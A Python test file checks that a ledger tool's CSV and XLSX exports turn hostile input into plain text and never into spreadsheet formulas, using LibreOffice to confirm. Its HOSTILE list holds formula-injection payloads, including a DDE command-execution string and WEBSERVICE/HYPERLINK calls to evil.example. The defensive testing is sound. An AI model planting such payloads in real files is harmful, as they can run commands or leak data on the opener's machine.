"""What a spreadsheet makes of our files: of hostile text, text; no cell is a formula.

With LibreOffice where it is installed (`soffice`), as the reader who would run them.
"""

import io
import shutil
import subprocess
from pathlib import Path

import openpyxl
import pytest

from ledger.exchange.lines import line
from ledger.formats import FORMATS, Answer

HOSTILE = (
    "=1+1", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1,1)", "\t=1+1", "\r=1+1", "\n=1+1",
    "=HYPERLINK(\"https://evil.example\",\"x\")", "=WEBSERVICE(\"https://evil.example\")", " =1+1",
    "＝1+1", "＋1+1", "－1+1", "＠SUM(1)",
    "'=1+1", "''=1+1", "\u00a0=1+1", "\ufeff=1+1",
    "\u200b=1+1", "{=1+1}", "=IMPORTXML(CONCAT(\"http://x\",A1),\"//a\")", "-5 dead",
    "+7 (495)", "=", "@", "-",
    "x\r=1+1", "x\r\n=1+1", "\x0b=1+1", "\u2028=1+1", "1;=1+1", '","=1+1', '"=1+1',
)  # fmt: skip

office = pytest.mark.skipif(not shutil.which("soffice"), reason="LibreOffice is not installed")


def written(format_: str, *, raw: bool = False) -> bytes:
    answer = Answer(["number", "text"], list(enumerate(HOSTILE)), raw=raw)
    if FORMATS[format_].text:
        text = io.StringIO(newline="")
        FORMATS[format_].write(text, answer)
        return text.getvalue().encode()
    stream = io.BytesIO()
    FORMATS[format_].write(stream, answer)
    return stream.getvalue()


def formulas(data: bytes) -> list[object]:
    """The formula cells of a workbook."""
    book = openpyxl.load_workbook(io.BytesIO(data))
    cells = (cell for sheet in book for row in sheet.iter_rows() for cell in row)
    return [cell.value for cell in cells if cell.data_type == "f"]


def converted(folder: Path, name: str, data: bytes) -> bytes:
    (folder / name).write_bytes(data)
    out = folder / "out"
    subprocess.run(
        ["soffice", f"-env:UserInstallation={(folder / 'profile').as_uri()}", "--headless",
         "--convert-to", "xlsx", "--outdir", str(out), str(folder / name)],
        check=True, capture_output=True, timeout=120,
    )  # fmt: skip
    return (out / Path(name).with_suffix(".xlsx").name).read_bytes()


def test_a_workbook_holds_no_formula() -> None:
    data = written("xlsx")
    assert formulas(data) == []
    (sheet, *_) = openpyxl.load_workbook(io.BytesIO(data))
    assert [row[1] for row in sheet.iter_rows(min_row=2, values_only=True)][:3] == [*HOSTILE[:3]]


@office
def test_a_spreadsheet_runs_nothing_of_our_csv(tmp_path: Path) -> None:
    exported = "text,more\n" + "".join(line([text, text]) for text in HOSTILE)
    for number, data in enumerate((written("csv"), exported.encode())):
        assert formulas(converted(tmp_path, f"answer{number}.csv", data)) == []
    # The same cells as they are would have been run: so the test can tell.
    assert formulas(converted(tmp_path, "raw.csv", written("csv", raw=True)))


@office
def test_a_spreadsheet_runs_nothing_of_our_workbook(tmp_path: Path) -> None:
    assert formulas(converted(tmp_path, "book.xlsx", written("xlsx"))) == []
